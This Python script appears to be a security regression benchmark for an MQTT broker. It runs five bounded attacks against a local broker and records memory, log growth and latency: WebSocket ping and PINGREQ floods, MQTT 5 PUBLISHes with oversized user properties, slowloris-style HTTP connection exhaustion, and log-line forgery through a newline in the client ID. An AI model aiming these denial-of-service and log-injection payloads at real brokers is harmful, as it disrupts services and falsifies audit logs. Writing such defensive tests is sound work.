#!/usr/bin/env python3
"""The four attacks of issue 10, against a running broker on 127.0.0.1 (default ports).

  python3 bench/attack/attack.py --pid PID --log LOGFILE [--scale 1.0] [--only slow_http,...]

Runs each attack in turn while a control client connects (MQTT CONNECT -> CONNACK) every 0.5 s,
and prints per attack: broker RSS before / peak, log growth, the slowest control connect, and what
the attack saw. Every loop is bounded; only 127.0.0.1 is contacted.
"""
import argparse, multiprocessing, os, socket, struct, time

MQTT, WS = 1883, 8083


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return -1


def mqtt_str(s):
    b = s.encode()
    return struct.pack(">H", len(b)) + b


def varint(n):
    out = b""
    while True:
        d, n = n % 128, n // 128
        out += bytes([d | (0x80 if n else 0)])
        if not n:
            return out


def packet(first, body):
    return bytes([first]) + varint(len(body)) + body


def connect(client_id, level=4):
    vh = mqtt_str("MQTT") + bytes([level, 0x02, 0, 60]) + (b"\x00" if level == 5 else b"")
    return packet(0x10, vh + mqtt_str(client_id))


class Monitor:
    """Control connects and RSS sampling, in a process of its own: a thread would share the
    attack's interpreter lock, and its connect times would include the attack's turns."""

    def __init__(self, pid):
        self.pid = pid
        self.stop_flag = multiprocessing.Event()
        self.worst_ms = multiprocessing.Value("d", 0.0)
        self.failures_v = multiprocessing.Value("i", 0)
        self.peak_v = multiprocessing.Value("l", 0)
        self.t = multiprocessing.Process(target=self.run, daemon=True)

    def run(self):
        while not self.stop_flag.is_set():
            self.peak_v.value = max(self.peak_v.value, rss_kib(self.pid))
            t0 = time.time()
            try:
                s = socket.create_connection(("127.0.0.1", MQTT), timeout=5)
                s.sendall(connect("control-%d" % int(t0 * 1000)))
                if s.recv(4)[:1] != b"\x20":
                    self.failures_v.value += 1
                s.close()
            except OSError:
                self.failures_v.value += 1
            self.worst_ms.value = max(self.worst_ms.value, (time.time() - t0) * 1000)
            time.sleep(0.5)

    def finish(self):
        self.stop_flag.set()
        self.t.join()
        self.worst, self.failures, self.peak = self.worst_ms.value / 1000, self.failures_v.value, self.peak_v.value


def ws_open(port=WS):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    s.sendall(b"GET /mqtt HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
              b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
              b"Sec-WebSocket-Protocol: mqtt\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    return s


def ws_frame(first, payload):
    n = len(payload)
    hdr = bytes([first]) + (bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + struct.pack(">H", n))
    return hdr + b"\0\0\0\0" + payload


def attack_ping_flood(scale):
    s = ws_open()
    s.settimeout(3)
    chunk = ws_frame(0x89, b"p" * 125) * 500
    sent, limit = 0, int(4_000_000 * scale)
    try:
        while sent < limit:
            s.sendall(chunk)
            sent += 500
    except OSError:
        pass
    s.close()
    return f"{sent:,} pings sent before the broker stopped reading (of {limit:,})"


def attack_pingreq_ws(scale):
    s = ws_open()
    s.sendall(ws_frame(0x82, connect("pingreq-ws")))
    s.settimeout(3)
    chunk = ws_frame(0x82, b"\xc0\x00" * 30000)
    sent, limit = 0, int(38_600_000 * scale)
    try:
        while sent < limit:
            s.sendall(chunk)
            sent += 30000
    except OSError:
        pass
    s.close()
    return f"{sent:,} PINGREQs sent over ws before the broker stopped reading (of {limit:,})"


def attack_user_properties(scale):
    pair = b"\x26" + mqtt_str("a") + mqtt_str("b")
    n = 140_000
    props = pair * n
    body = mqtt_str("attack/props") + struct.pack(">H", 1) + varint(len(props)) + props + b"x"
    pub = packet(0x32, body)
    refused = 0
    count = max(1, int(59 * scale))
    for i in range(count):
        s = socket.create_connection(("127.0.0.1", MQTT), timeout=10)
        s.sendall(connect("props-%d" % i, 5))
        s.recv(64)
        try:
            s.sendall(pub)
            data = s.recv(64)
            if data[:1] == b"\xe0" and len(data) >= 3 and data[2] == 0x95:
                refused += 1
        except OSError:
            pass
        s.close()
    return f"{count} PUBLISHes of {len(pub):,} bytes with {n:,} user properties: {refused} refused with DISCONNECT 0x95"


def attack_slow_http(scale):
    per_client = int(10_000 * scale)
    socks, opened = [], 0
    for _ in range(2 * per_client):
        try:
            s = socket.create_connection(("127.0.0.1", WS), timeout=2)
            s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nX-slow: ")
            socks.append(s)
            opened += 1
        except OSError:
            pass
    t0 = time.time()
    closed = 0
    deadline = t0 + 20
    pending = list(socks)
    while pending and time.time() < deadline:
        still = []
        for s in pending:
            s.setblocking(False)
            try:
                if s.recv(1) == b"":
                    closed += 1
                    s.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
                s.close()
                continue
            still.append(s)
        pending = still
        time.sleep(0.5)
    for s in pending:
        s.close()
    return (f"{opened:,} slow HTTP connections opened of {2 * per_client:,}; {closed:,} closed by the broker "
            f"within {time.time() - t0:.1f} s, {len(pending):,} still open at 20 s")


def attack_forged_id(scale):
    forged = "x\n01:02:03.456 ERROR [main] TributaryMain - forged line"
    s = socket.create_connection(("127.0.0.1", MQTT), timeout=10)
    s.sendall(connect(forged))
    s.recv(4)
    s.sendall(connect(forged))  # a second CONNECT: a violation, logged with the client id
    try:
        s.recv(4)
    except OSError:
        pass
    s.close()
    return "CONNECT with a forged id, then a violation"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--scale", type=float, default=1.0)
    ap.add_argument("--only", help="comma-separated: ping_flood, pingreq_ws, user_properties, slow_http, forged_id")
    a = ap.parse_args()
    only = set(a.only.split(",")) if a.only else None
    for name, fn in [("ws ping flood", attack_ping_flood), ("ws PINGREQ flood", attack_pingreq_ws),
                     ("MQTT 5 user properties", attack_user_properties), ("slow HTTP", attack_slow_http),
                     ("forged client id", attack_forged_id)]:
        if only and fn.__name__.replace("attack_", "") not in only:
            continue
        rss0, log0 = rss_kib(a.pid), os.path.getsize(a.log)
        m = Monitor(a.pid)
        m.t.start()
        t0 = time.time()
        what = fn(a.scale)
        time.sleep(1)
        m.finish()
        alive = os.path.exists(f"/proc/{a.pid}")
        print(f"| {name} | {what} | {'up' if alive else 'DEAD'} | {rss0 // 1024} -> peak {m.peak // 1024} MiB "
              f"(+{(m.peak - rss0) // 1024}) | +{(os.path.getsize(a.log) - log0) / 1e6:.2f} MB | "
              f"{m.worst * 1000:.0f} ms ({m.failures} failed) | {time.time() - t0:.0f} s |", flush=True)
    forged = [l for l in open(a.log, errors="replace") if l.startswith("01:02:03.456")]
    print("forged lines in the log:", len(forged))


if __name__ == "__main__":
    main()
